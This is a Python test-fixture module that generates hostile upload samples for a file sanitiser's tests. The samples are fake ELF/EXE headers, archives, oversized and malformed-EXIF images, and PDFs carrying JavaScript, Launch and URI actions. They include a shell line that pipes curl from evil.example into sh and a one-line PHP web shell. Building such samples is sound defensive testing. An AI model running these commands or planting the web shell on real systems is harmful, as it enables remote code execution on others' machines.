"""Hostile files built on the fly for the upload tests, the fuzz test and bench/fuzz.py: no binary fixtures."""

from __future__ import annotations

import gzip
import io
import struct
import zipfile
import zlib

import pikepdf
from PIL import Image

from .conftest import png_bytes

ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
WINDOWS_EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode.\r\n" + b"\x00" * 200
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
HTML = b"<html><body><script>alert(document.cookie)</script></body></html>"
RAR = b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 40


def zip_bytes(*, version: int = 0x14) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.js", "alert(1)")
    data = bytearray(out.getvalue())
    data[4] = version  # "version needed to extract", which the old check matched against a list
    return bytes(data)


ARCHIVES = {
    "zip": zip_bytes(),
    "zip-odd-version": zip_bytes(version=0x0B),
    "rar": RAR,
    "7z": SEVEN_Z,
    "gzip": gzip.compress(b"payload " * 20),
    "html": HTML,
    "php": PHP,
    "shell": SHELL_SCRIPT,
    "elf": ELF,
    "exe": WINDOWS_EXE,
}


def jpeg_bytes(size: tuple[int, int] = (40, 30), **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (200, 30, 30)).save(out, format="JPEG", **save)
    return out.getvalue()


def webp_bytes(size: tuple[int, int] = (40, 30)) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 200, 30)).save(out, format="WEBP")
    return out.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_with_chunk(data: bytes) -> bytes:
    """A valid PNG carrying `data` in a private ancillary chunk before IEND."""
    png = png_bytes()
    iend = png.rindex(b"IEND") - 4
    return png[:iend] + png_chunk(b"zzZz", data) + png[iend:]


def jpeg_with_comment(data: bytes) -> bytes:
    jpeg = jpeg_bytes()
    return jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(data) + 2) + data + jpeg[2:]


def webp_with_chunk(data: bytes) -> bytes:
    webp = webp_bytes()
    chunk = b"ZZZZ" + struct.pack("<I", len(data)) + data + (b"\x00" if len(data) & 1 else b"")
    body = webp[12:] + chunk
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def big_png(width: int, height: int, *, mode: str = "RGBA") -> bytes:
    """A flat-coloured PNG of any size, written row by row so the test itself never holds its pixels."""
    channels = {"L": 1, "RGB": 3, "RGBA": 4}[mode]
    colour_type = {"L": 0, "RGB": 2, "RGBA": 6}[mode]
    header = struct.pack(">IIBBBBB", width, height, 8, colour_type, 0, 0, 0)
    compressor = zlib.compressobj(9)
    row = b"\x00" + b"\x7f" * (width * channels)
    parts = [compressor.compress(row) for _ in range(height)]
    idat = b"".join(parts) + compressor.flush()
    return b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header) + png_chunk(b"IDAT", idat) + png_chunk(b"IEND", b"")


def webp_wider_than_the_encoder_allows(width: int = 20_000) -> bytes:
    """An animated WebP whose canvas claims `width` pixels: Pillow decodes it, no WebP encoder can write it."""
    frames = [Image.new("RGBA", (2, 2), (255, 0, 0, 255)), Image.new("RGBA", (2, 2), (0, 255, 0, 255))]
    out = io.BytesIO()
    frames[0].save(out, format="WEBP", save_all=True, append_images=frames[1:], lossless=True)
    data = bytearray(out.getvalue())
    vp8x = data.index(b"VP8X")
    data[vp8x + 12 : vp8x + 15] = (width - 1).to_bytes(3, "little")
    return bytes(data)


def tiff_ifd(tags: list[tuple[int, int, int, bytes]]) -> bytes:
    entries = b"".join(struct.pack("<HHI", tag, kind, count) + value for tag, kind, count, value in tags)
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + entries + struct.pack("<I", 0)


ROTATE = (0x0112, 3, 1, b"\x06\x00\x00\x00")  # Orientation 6: the picture must be turned
# Each of these, beside an orientation, makes Pillow's exif_transpose raise (TypeError, AttributeError...).
MALFORMED_EXIF = {
    "xresolution-as-bytes": tiff_ifd([ROTATE, (0x011A, 1, 1, b"\x06\x00\x00\x00")]),
    "make-as-rational": tiff_ifd([ROTATE, (0x010F, 5, 1, b"\x06\x00\x00\x00")]),
    "exif-ifd-negative-offset": tiff_ifd([ROTATE, (0x8769, 6, 1, b"\xff\xff\xff\xff")]),
    "interop-as-byte": tiff_ifd([ROTATE, (0xA005, 1, 1, b"\x06\x00\x00\x00")]),
    "truncated": tiff_ifd([ROTATE])[:-6],
}


def jpeg_with_exif(tiff: bytes, size: tuple[int, int] = (16, 8)) -> bytes:
    return jpeg_bytes(size, exif=b"Exif\x00\x00" + tiff)


# --- PDFs -----------------------------------------------------------------------------------------


def pdf_bytes(build: object = None) -> bytes:
    """A one-page PDF; `build(pdf)` adds what the test is about."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    if callable(build):
        build(pdf)
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def _open_action(action: dict[str, object]):  # type: ignore[no-untyped-def]
    def build(pdf: pikepdf.Pdf) -> None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(**action))

    return build


def _link_annotation(action: dict[str, object]):  # type: ignore[no-untyped-def]
    def build(pdf: pikepdf.Pdf) -> None:
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 100, 100], A=pikepdf.Dictionary(**action)
        )
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(annotation)]))

    return build


def _attachment(pdf: pikepdf.Pdf) -> None:
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"harmless words")


def _acroform(pdf: pikepdf.Pdf) -> None:
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx, T="name", Rect=[0, 0, 50, 20]
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([field])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))


def _xfa(pdf: pikepdf.Pdf) -> None:
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
    )


def _page_aa(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].obj.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example/"))


JS = {"S": pikepdf.Name.JavaScript, "JS": "app.alert(1)"}
ACTIVE_PDFS = {
    "javascript": pdf_bytes(_open_action(JS)),
    "openaction-uri": pdf_bytes(_open_action({"S": pikepdf.Name.URI, "URI": "http://evil.example/"})),
    "openaction-goto": pdf_bytes(_open_action({"S": pikepdf.Name.GoTo, "D": [0, pikepdf.Name.Fit]})),
    "link-uri": pdf_bytes(_link_annotation({"S": pikepdf.Name.URI, "URI": "http://evil.example/"})),
    "launch": pdf_bytes(_open_action({"S": pikepdf.Name.Launch, "F": "cmd.exe"})),
    "submitform": pdf_bytes(_link_annotation({"S": pikepdf.Name.SubmitForm, "F": "http://evil.example/"})),
    "gotor": pdf_bytes(_link_annotation({"S": pikepdf.Name.GoToR, "F": "\\\\evil\\share\\x.pdf", "D": [0]})),
    "embedded-file": pdf_bytes(_attachment),
    "acroform": pdf_bytes(_acroform),
    "xfa": pdf_bytes(_xfa),
    "page-additional-action": pdf_bytes(_page_aa),
}
# Names that must not be found anywhere in a stored PDF.
ACTIVE_NAMES = {
    "/JavaScript",
    "/JS",
    "/Launch",
    "/URI",
    "/SubmitForm",
    "/GoToR",
    "/EmbeddedFile",
    "/EmbeddedFiles",
    "/XFA",
    "/AcroForm",
    "/OpenAction",
    "/AA",
    "/Annots",
    "/Names",
}


def pdf_names(content: bytes) -> set[str]:
    """Every name used as a key or a value anywhere in the PDF, as qpdf parses it."""
    found: set[str] = set()

    def walk(obj: object, depth: int = 0) -> None:
        if depth > 60:
            return
        if isinstance(obj, pikepdf.Name):
            found.add(str(obj))
        elif isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key, value in obj.items():
                found.add(key)
                if not (isinstance(value, pikepdf.Object) and value.is_indirect):
                    walk(value, depth + 1)
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                if not (isinstance(item, pikepdf.Object) and item.is_indirect):
                    walk(item, depth + 1)

    with pikepdf.open(io.BytesIO(content)) as pdf:
        walk(pdf.trailer)
        for obj in pdf.objects:
            walk(obj)
    return found
